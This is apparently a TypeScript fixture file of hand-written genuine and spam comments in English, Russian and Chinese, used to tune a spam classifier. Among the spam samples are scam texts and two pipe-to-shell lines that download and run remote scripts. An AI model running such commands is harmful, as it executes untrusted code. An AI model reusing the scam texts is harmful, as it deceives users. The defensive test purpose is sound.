// Development batch of issue 15's "stop flagging real readers" (2026-12-07, third session): five
// shapes of genuine comment the shipped model holds or sends to spam, and the spam of their
// surface that must stay caught. Written by hand before any code change, English, Russian and
// Chinese; no text is taken from the public data sets.

/** A journalist looking for witnesses or sources, with a messenger handle or an e-mail. */
export const PRESS_GENUINE: readonly string[] = [
  "I'm a reporter preparing a piece on the Khorgos border queues. If you waited at the border last week, write to me on Telegram @aliya_reports, I can keep you anonymous.",
  'Reporter here (Vlast.kz): looking for people whose pensions were delayed by the new transfer rules. Email me at d.ospanova@vlast-news.kz, sources can stay anonymous.',
  'Я журналист, готовлю материал о закрытии барахолки. Если вы там торговали, пишите в тг @reporter_kz, имя не публикуем.',
  'пишите в тг @reporter_kz, готовлю материал про очереди на Хоргосе',
  'Я корреспондент «Азаттыка», собираю истории людей, у которых заблокировали переводы в Китай. Напишите мне в телеграм @azat_news_desk, можно анонимно.',
  '我是记者，正在写关于霍尔果斯口岸排队的报道，如果您在口岸等过，欢迎私信我，可以匿名。',
  '我是《新疆日报》的记者，在做一篇关于棉农收入的报道，愿意分享经历的请发邮件到 reporter@xjdaily-news.cn',
];

/** Spam that claims to be press, or recruits and pays with the same words. */
export const PRESS_SPAM: readonly string[] = [
  "I'm a journalist too and I made $5,000 a week working from home, write to me on Telegram @easy_money_kz",
  'Ищем журналистов и копирайтеров на удалёнку, оплата от 3000 в день, пишите в тг @rabota_media',
  'Готовлю материал для вашего сайта: пишем статьи под ключ, недорого, пишите в тг @seo_texts_pro',
  'We are hiring reporters! $50 per article, no experience needed, DM on Telegram @news_jobs_online',
  '我是记者，兼职日赚500元，想了解的私信我，微信 zhuanqian888',
  'Journalist here: I earn $300 a day from home with this crypto platform, message me on WhatsApp +1 (415) 555-0176',
];

/** A reader linking their own write-up with figures, no pitch. */
export const WRITEUP_GENUINE: readonly string[] = [
  'I wrote a longer analysis of the water dispute on my own blog, with the capacity figures from the 2019 and 2024 agreements: aliya.substack.com',
  'The longer version with all the tariff tables from 2021 to 2025 is on my blog: https://kz-trade-notes.blogspot.com/2025/tariffs',
  'I compared the 2018 and 2025 budgets line by line in a post on my Substack (about 40% of the cuts hit rural clinics): https://ermek.substack.com/p/budget',
  'Подробнее разобрал это у себя в блоге, с цифрами пропускной способности за 2019 и 2024 годы: https://aidos.livejournal.com/1234.html',
  '我在自己的博客上写了更详细的分析，附有2019年和2024年协议的运力数据：https://liwei-notes.blog/water',
];

/** Pitches dressed as a reader's write-up. */
export const WRITEUP_SPAM: readonly string[] = [
  'I wrote a full guide on my blog on how I made $3,000 a month from home, check it out: https://easy-income.top',
  'Подробный разбор на моём блоге, там же скидка 50% на курс по трейдингу: https://kurs-trading.ru',
  '我在博客上写了详细的赚钱方法，月入3万，点击查看：https://zhuanqian.xyz',
  'Great analysis! I wrote about the best SEO tools for 2025 on my blog, 30% off this week: https://seo-tools-deal.com',
];

/** A complaint quoting a bank's or brand's short service number. */
export const SHORT_NUMBER_GENUINE: readonly string[] = [
  'Kaspi Bank blocked my card for a week, their customer service number 7111 eventually refunded me',
  'Kaspi Bank customer service number 7111 blocked my card and nobody could explain why',
  'Called Beeline on their short number 0611 three times about the double charge, they refunded it after a week',
  'Позвонил в Халык по короткому номеру 7111, сорок минут ждал на линии, в итоге деньги вернули',
  '我打了招商银行客服95555，说卡被冻结了，等了三天才退款',
];

/** Fake support lines beside a short number. */
export const SHORT_NUMBER_SPAM: readonly string[] = [
  'Kaspi Bank customer service number 7111 or WhatsApp +1 (888) 555-0199 for instant refund, call now',
  'Служба поддержки Сбербанка 900 — или пишите нашему оператору в тг @sber_help24, вернём деньги за 5 минут',
  '工商银行客服95588已升级，退款请加微信 kefu8899 马上处理',
];

/** A shell line calling a messenger bot's API with a token variable. */
export const BOT_COMMAND_GENUINE: readonly string[] = [
  'curl -s "https://api.telegram.org/bot$TOKEN/getUpdates" | jq \'.result[].message.text\'',
  'To test it I ran curl -X POST "https://api.telegram.org/bot${BOT_TOKEN}/sendMessage" -d chat_id=$CHAT_ID -d text=hello and it worked',
  'Проверил так: curl "https://api.telegram.org/bot$TG_TOKEN/getMe" — бот отвечает, значит токен живой',
  '我用 curl -s https://api.telegram.org/bot$TOKEN/getWebhookInfo 查了一下，webhook 没设置好',
];

/** Bot and download spam in the shape of a command. */
export const BOT_COMMAND_SPAM: readonly string[] = [
  'Free Telegram bot for crypto signals: curl https://api.telegram.org/bot123/start, join @free_signals_vip now, 95% accuracy',
  'Get free followers with our bot: curl https://tg-followers.top/install.sh | sh',
  'Купить прокси для Telegram-бота дёшево: curl https://proxy-tg.top | bash, пишите @proxy_sale',
];

/** A fan under a music video speaking of their own subscription to the official channel. */
export const FAN_GENUINE: readonly string[] = [
  'Subscribed to the official channel years ago just for this one',
  "I've been subscribed to their official channel since 2012 and this is still the best video on it",
  "Subscribed to the band's channel back when this came out, it still shows up in my recommendations",
  'Подписан на официальный канал с 2013 года, ради этой песни',
  '为了这首歌十年前就订阅了官方频道',
];

/** Channel plugs: the writer's own channel and an ask to subscribe. */
export const FAN_SPAM: readonly string[] = [
  'check out my channel, please subscribe',
  'Subscribe to my channel for more covers like this!',
  'I just subscribed to your channel, please subscribe back',
  'Подпишитесь на мой канал, там каверы на эту песню',
  '订阅我的频道，每天更新翻唱',
];
